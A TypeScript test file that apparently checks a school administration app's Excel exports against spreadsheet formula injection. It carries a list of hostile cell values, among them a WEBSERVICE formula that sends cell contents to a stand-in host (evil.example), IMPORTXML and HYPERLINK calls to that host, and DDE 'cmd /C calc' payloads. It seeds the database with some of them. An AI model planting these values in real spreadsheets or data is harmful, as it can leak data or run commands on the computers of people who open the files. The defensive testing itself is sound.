import { readFileSync } from 'node:fs';
import { inflateRawSync } from 'node:zlib';
import { readXlsx } from 'hucre/xlsx';
import { sql } from 'kysely';
import { expect, it } from 'vitest';
import { tableXlsx } from '../../src/documents/table.ts';
import { filesOf, openSchool, PEOPLE, type OpenSchool } from '../harness.ts';

const { teacher, director, head, buyer, storekeeper, electrician } = PEOPLE;
const finance = 'ou_finance';

const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://evil.example","点我")',
  '=IMPORTXML("http://evil.example","//a")',
  '=WEBSERVICE("http://evil.example/?"&A1)',
  "=cmd|'/C calc'!A0",
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '+1+1',
  "-2+3+cmd|'/C calc'!A0",
  '@x',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00A0=1+1',
  '\u3000=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  '"=1+1"',
  "'=1+1",
  '";=1+1',
  ',=1+1,',
  '=1+1\u0000',
  '\u0007=1+1',
  '\uFEFF=1+1',
  '=DDE("cmd","/C calc","x")',
  '{=SUM(A1:A2)}',
  '</t></is></c><c r="Z9"><f>1+1</f></c>',
  ']]><f>1+1</f>',
  '&lt;f&gt;1&lt;/f&gt;',
  '_x003D_1+1',
  '1e5',
  '00123',
  '2026-11-24',
  'TRUE',
  '#REF!',
  `=${'1+'.repeat(20_000)}1`,
];

/** The parts of a zip by their names, read by its directory at the end. */
function partsOf(zip: Buffer): Map<string, string> {
  const parts = new Map<string, string>();
  let at = zip.readUInt32LE(zip.lastIndexOf('PK\u0005\u0006') + 16);
  while (zip.readUInt32LE(at) === 0x02014b50) {
    const [method, size] = [zip.readUInt16LE(at + 10), zip.readUInt32LE(at + 20)];
    const [name, extra, comment] = [28, 30, 32].map((offset) => zip.readUInt16LE(at + offset));
    const local = zip.readUInt32LE(at + 42);
    const begin = local + 30 + zip.readUInt16LE(local + 26) + zip.readUInt16LE(local + 28);
    const packed = zip.subarray(begin, begin + size);
    const label = zip.toString('utf8', at + 46, at + 46 + (name ?? 0));
    parts.set(label, (method === 0 ? packed : inflateRawSync(packed)).toString('utf8'));
    at += 46 + (name ?? 0) + (extra ?? 0) + (comment ?? 0);
  }
  return parts;
}

/** Cells of a workbook as text, after the demands on its XML: nothing is computed, nothing leads outside. */
async function cellsOf(bytes: Buffer): Promise<(string | number)[]> {
  const parts = partsOf(bytes);
  const sheets = [...parts].filter(([name]) => name.startsWith('xl/worksheets/sheet'));
  expect(sheets.length).toBeGreaterThan(0);
  expect([...parts.keys()].filter((name) => /external|connection|macro|vba/i.test(name))).toEqual(
    [],
  );
  for (const [, xml] of sheets) {
    expect(xml).toMatch(/<c /);
    expect(xml).not.toMatch(/<f[ >/]|<hyperlink|<ext |<ddeLink|t="str"|t="b"|t="e"/);
    expect(xml).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F]/);
  }
  const read = await readXlsx(bytes);
  return read.sheets.flatMap(({ rows, cells }) => {
    for (const cell of cells?.values() ?? []) expect(cell.formula).toBeUndefined();
    return rows.flat().flatMap((cell): (string | number)[] => {
      if (cell === null || cell === undefined) return [];
      expect(['string', 'number']).toContain(typeof cell);
      return typeof cell === 'number' ? [cell] : [String(cell)];
    });
  });
}

it('a cell of a ledger is the text somebody wrote, whatever a spreadsheet would make of it', async () => {
  const column = { name: '=名', width: 10, points: 50 };
  const bytes = await tableXlsx({
    title: '=1+1',
    school: '@校',
    sheet: '台账',
    columns: [column, { ...column, money: true }],
    rows: FORMULAS.map((text) => [text, text]),
    summary: '=SUM(A1)',
    note: '',
    signatures: ['=1+1'],
    printed: '',
  });
  const cells = await cellsOf(Buffer.from(bytes));
  expect(cells.filter((cell) => typeof cell === 'number' && cell !== 0)).toEqual([]);
  for (const text of FORMULAS) {
    const told = text
      .replaceAll(/[\0\u0007\r]/g, ' ')
      .replace('#REF', '＃REF')
      .slice(0, 32_000);
    const found = cells.filter((cell) => cell === told).length;
    expect([told.slice(0, 40), found >= 2]).toEqual([told.slice(0, 40), true]);
  }
});

/** Makes a formula of everything that stands in the database as words, each field another one. */
async function poison(school: OpenSchool, formula: (i: number) => string): Promise<number> {
  const { db } = school.database;
  const { rows } = await sql<{ table: string; column: string; json: boolean }>`
    select table_name as "table", column_name as "column", data_type = 'jsonb' as json
    from information_schema.columns
    where table_schema = current_schema() and data_type in ('text', 'jsonb')
      and (table_name similar to '(repair|purchase|issue|stock|duty|schedule)%' or column_name = 'name')
      and column_name not in ('data', 'kind', 'state', 'number', 'class')
      and table_name not in ('counter', 'setting', 'timer', 'question')`.execute(db);
  let changed = 0;
  for (const { table, column, json } of rows) {
    const words = JSON.stringify(formula(changed)).slice(1, -1);
    const name = sql.ref(column);
    const done = json
      ? await sql`update ${sql.table(table)} set ${name} = regexp_replace(${name}::text, '[一-龥][^"]*', ${words.replaceAll('\\', '\\\\')}, 'g')::jsonb
          where ${name}::text ~ '[一-龥]'`.execute(db)
      : await sql`update ${sql.table(table)} set ${name} = ${formula(changed)} || ${name}
          where ${name} ~ '[一-龥]' and length(${name}) < 200`.execute(db);
    if (Number(done.numAffectedRows ?? 0) > 0) changed++;
  }
  return changed;
}

/** Something of everything that can be exported. */
async function lived(): Promise<OpenSchool> {
  const shift = (date: string) =>
    `    - { date: ${date}, person: ou_teacher3, leader: ou_director }\n`;
  const school = await openSchool({
    unlimited: true,
    school: readFileSync('schools/sample.yaml', 'utf8').replace(
      '  shifts:\n',
      (line) => `${line}${shift('2026-12-05')}`,
    ),
  });
  await school.say(teacher, '302 空调不制冷');
  await school.tap(electrician, '接单');
  await school.tap(electrician, '完工');
  await school.say(teacher, '申请买3台电风扇，100元一台，开运动会用');
  await school.tap(teacher, '提交申请');
  await school.tap(head, '同意', { form: { note: '同意采购' } });
  await school.tap(buyer, '已下单', { form: { supplier: '红星五金', cost: '290' } });
  await school.tap(buyer, '已到货', { form: { quantity_1: '3' } });
  await school.tap(storekeeper, '验收入库');
  await school.say(teacher, '领两盒粉笔，上课用');
  await school.tap(storekeeper, '发放');
  await school.tap(teacher, '确认领用');
  await school.say(storekeeper, '入库 A4纸 20包 25元 得力送货');
  await school.say(storekeeper, '盘点 粉笔 37，其余相符');
  await school.tap(storekeeper, '说明', { form: { reason: '其他', note: '夹在后面' } });
  await school.tap(storekeeper, '提交盘点');
  await school.tap(director, '同意');
  return school;
}

it('the same through every table the product sends', async () => {
  await using school = await lived();
  const HOSTILE = ['=1+1', '＝1+1', '+1+1', '-2+3', '@x', "=cmd|'/C calc'!A0", ' =1+1', '"=1+1"'];
  const changed = await poison(school, (i) => HOSTILE[i % HOSTILE.length] ?? '');
  expect(changed).toBeGreaterThan(20);
  const exports: readonly (readonly [string, string])[] = [
    [director, '导出报修台账 本月'],
    [finance, '导出采购台账 11月'],
    [storekeeper, '导出本月入库台账'],
    [director, '导出领用台账 本月'],
    [director, '导出材料账 11月'],
    [storekeeper, '导出进出库流水'],
    [director, '盘点表'],
    [director, '导出值班记录 5月'],
    [director, '导出值班表 12月'],
    [director, '导出安排'],
  ];
  for (const [person, words] of exports) {
    const before = filesOf(school, person).length;
    await school.say(person, words);
    const tables = filesOf(school, person)
      .slice(before)
      .filter((bytes) => bytes.subarray(0, 2).toString() === 'PK');
    expect([words, tables.length]).toEqual([words, 1]);
    const cells = await cellsOf(tables[0] ?? Buffer.alloc(0));
    const hostile = cells.filter((cell) =>
      HOSTILE.some((one) => String(cell).includes(one.trim())),
    );
    expect([words, hostile.length > 0]).toEqual([words, true]);
  }
});
